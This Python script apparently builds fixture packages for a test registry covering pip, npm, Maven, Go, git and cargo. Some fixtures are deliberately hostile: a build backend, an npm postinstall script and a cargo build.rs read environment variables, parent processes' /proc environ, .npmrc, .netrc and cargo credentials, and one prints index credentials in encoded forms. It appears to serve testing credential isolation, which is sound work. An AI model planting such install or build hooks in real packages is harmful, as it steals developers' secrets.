"""Makes the packages that the tests' registry serves: one JSON object of file names and base64."""

import base64, hashlib, io, json, tarfile, zipfile

# A build backend of the package's own, so that nothing else must be downloaded to build it.
BUILD = """\
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""
# Copies what it sees of its surroundings into the package: the environment, and that of its ancestors.
NOSY = """\
import json, os

def parents():
    pid = os.getppid()
    while pid > 1:
        yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])

def name(pid):
    with open(f"/proc/{pid}/comm") as file:
        return file.read().strip()

def environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as file:
            return file.read().decode(errors="replace")
    except OSError as error:
        return error.strerror

def text():
    return json.dumps({"env": sorted(os.environ), "above": [[name(pid), environ(pid)] for pid in parents()]})
"""
# Tells everybody what it knows of credentials, in every form it can think of.
LEAKY = """\
import base64, os, sys, urllib.parse

def text():
    for name in ("PIP_INDEX_URL", "UV_DEFAULT_INDEX", "HTTP_PROXY", "REGISTRY_LOGIN"):
        url = os.environ.get(name)
        if url:
            user_info = urllib.parse.unquote(url.split("//")[-1].split("@")[0])
            say(url, user_info)
    with open(os.environ["NETRC"]) as file:
        for word in file.read().split():
            say(word)
    sys.exit("error: this build is broken by design")

def say(*texts):
    for text in texts:
        print(text, urllib.parse.quote(text, safe=""), base64.b64encode(text.encode()).decode())
"""
WRITE = """

import zipfile

def build_wheel(directory, config_settings=None, metadata_directory=None):
    module, info = text(), "{name}-1.0.dist-info/"
    with zipfile.ZipFile(directory + "/{name}-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr("{name}.py", module)
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "{name}.py,,\\n" + "".join(info + file + ",,\\n" for file in ("METADATA", "WHEEL", "RECORD")))
    return "{name}-1.0-py3-none-any.whl"
"""


# Copies what it sees of credentials into the package: the environment, and every configuration that npm reads.
LOOK = """\
const fs = require('fs'), path = require('path');
const seen = { env: process.env };
for (const dir of [process.env.HOME, process.env.INIT_CWD, '..', '../..', '../../..', '/root'])
  for (const name of ['.npmrc', '.netrc'])
    try { seen[path.join(String(dir), name)] = fs.readFileSync(path.join(dir, name), 'utf8') } catch {}
fs.writeFileSync('seen.json', JSON.stringify(seen));
"""


def npm(name, files, **more):
    """A package of npm's, and what the registry says of it, where `@HOST@` is the registry's URL."""
    manifest = {"name": name, "version": "1.0.0", "main": "index.js", **more}
    whole = archive("package", {"package.json": json.dumps(manifest), **files})
    file = f"{name}/-/{name.split('/')[-1]}-1.0.0.tgz"
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(whole).digest()).decode()
    version = {**manifest, "dist": {"tarball": "@HOST@/npm/" + file, "integrity": integrity}}
    if "scripts" in more:
        version["hasInstallScript"] = True
    packument = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    return {"npm/" + name: json.dumps(packument).encode(), "npm/" + file: whole}


def maven(name):
    """An artifact of Maven's with its checksums: an empty jar."""
    pom = f"<project><modelVersion>4.0.0</modelVersion><groupId>acme</groupId><artifactId>{name}</artifactId><version>1.0</version></project>"
    files = {f"maven/acme/{name}/1.0/{name}-1.0.pom": pom.encode(), f"maven/acme/{name}/1.0/{name}-1.0.jar": b"PK\5\6" + bytes(18)}
    return files | {path + ".sha1": hashlib.sha1(content).hexdigest().encode() for path, content in files.items()}


def go_files(path):
    """A module of Go's."""
    return {"go.mod": f"module {path}\n\ngo 1.21\n", "greeting.go": 'package greeting\n\nconst Text = "hello from afar"\n'}


def module(path):
    """A module of Go's, as a proxy serves it."""
    files = go_files(path)
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as made:
        for name, text in files.items():
            made.writestr(f"{path}@v1.0.0/{name}", text)
    info = {"Version": "v1.0.0", "Time": "2026-01-01T00:00:00Z"}
    answers = {"list": b"v1.0.0\n", "v1.0.0.info": json.dumps(info).encode(), "v1.0.0.mod": files["go.mod"].encode(), "v1.0.0.zip": whole.getvalue()}
    return {f"go/{path}/@v/{name}": answer for name, answer in answers.items()}


def repository(path, files):
    """A git repository, as files that any web server can serve; none where there is no git."""
    import pathlib, shutil, subprocess, tempfile

    if not shutil.which("git"):
        return {}
    with tempfile.TemporaryDirectory() as directory:
        root = pathlib.Path(directory)
        for name, text in files.items():
            (root / name).parent.mkdir(exist_ok=True)
            (root / name).write_text(text)
        who = ("-c", "user.name=acme", "-c", "user.email=acme@acme.example")
        for args in (("init", "-q"), ("add", "."), (*who, "commit", "-q", "-m", "first"), ("tag", "v1.0.0"), ("gc", "-q"), ("update-server-info",)):
            subprocess.run(["git", *args], cwd=root, check=True)
        bare = root / ".git"
        return {f"git/{path}.git/{file.relative_to(bare)}": file.read_bytes() for file in bare.rglob("*") if file.is_file()}


def crate(name, files, **more):
    """A crate, and the line of cargo's index that tells of it."""
    manifest = f'[package]\nname = "{name}"\nversion = "1.0.0"\nedition = "2021"\n'
    whole = archive(f"{name}-1.0.0", {"Cargo.toml": manifest, **files})
    line = {"name": name, "vers": "1.0.0", "deps": [], "features": {}, "yanked": False, "cksum": hashlib.sha256(whole).hexdigest()}
    return {"index/" + name: json.dumps({**line, **more}).encode() + b"\n", f"crates/{name}/1.0.0/download": whole}


def sdist(name, backend):
    files = {
        "pyproject.toml": BUILD + f'[project]\nname = "{name}"\nversion = "1.0"\n',
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        "backend.py": backend + WRITE.replace("{name}", name),
    }
    return archive(f"{name}-1.0", files)


def archive(top, files):
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w:gz") as tar:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{top}/{path}")
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text.encode()))
    return whole.getvalue()


def wheel(name, module):
    import os, tempfile

    scope = {"text": lambda: module}
    exec(WRITE.replace("{name}", name), scope)
    with tempfile.TemporaryDirectory() as directory:
        with open(os.path.join(directory, scope["build_wheel"](directory)), "rb") as file:
            return file.read()


# The same for a build script, which has no JSON at hand.
PEEK = """\
use std::{env, fs};

fn main() {
    let mut seen = String::new();
    for (name, value) in env::vars() {
        seen += &format!("{name}={value}\\n");
    }
    let home = env::var("HOME").unwrap_or_default();
    let cargo = env::var("CARGO_HOME").unwrap_or_default();
    for dir in [home.as_str(), &format!("{home}/.cargo"), &cargo, "/root", "/root/.cargo"] {
        for name in ["config.toml", "credentials.toml", ".netrc", ".gitconfig"] {
            seen += &fs::read_to_string(format!("{dir}/{name}")).unwrap_or_default();
        }
    }
    fs::write(format!("{}/seen.txt", env::var("OUT_DIR").unwrap()), seen).unwrap();
}
"""

CRATE = 'pub const TEXT: &str = "hello from afar";\n'

packages = {
    "acmegreeting-1.0-py3-none-any.whl": wheel("acmegreeting", "TEXT = 'hello'\n"),
    "nosy-1.0.tar.gz": sdist("nosy", NOSY),
    "leaky-1.0.tar.gz": sdist("leaky", LEAKY),
    **npm("acmegreeting", {"index.js": "module.exports = 'hello'\n"}),
    **npm("@acme/secret", {"index.js": "module.exports = 'hush'\n"}),
    **maven("acmegreeting"),
    **module("acme.example/acmegreeting"),
    **repository("registry.invalid/acme/secret", go_files("registry.invalid/acme/secret")),
    **crate("acmegreeting", {"src/lib.rs": CRATE}),
    **crate("altered", {"src/lib.rs": ""}, cksum="0" * 64),
    **crate("nosy", {"src/lib.rs": 'pub const TEXT: &str = include_str!(concat!(env!("OUT_DIR"), "/seen.txt"));\n', "build.rs": PEEK}),
    **repository("acme/acmegreeting", {"Cargo.toml": '[package]\nname = "acmegreeting"\nversion = "1.0.0"\n', "src/lib.rs": CRATE}),
    **npm("nosy", {"index.js": "", "look.js": LOOK}, scripts={"postinstall": "node look.js"}),
}
print(json.dumps({name: base64.b64encode(content).decode() for name, content in packages.items()}))
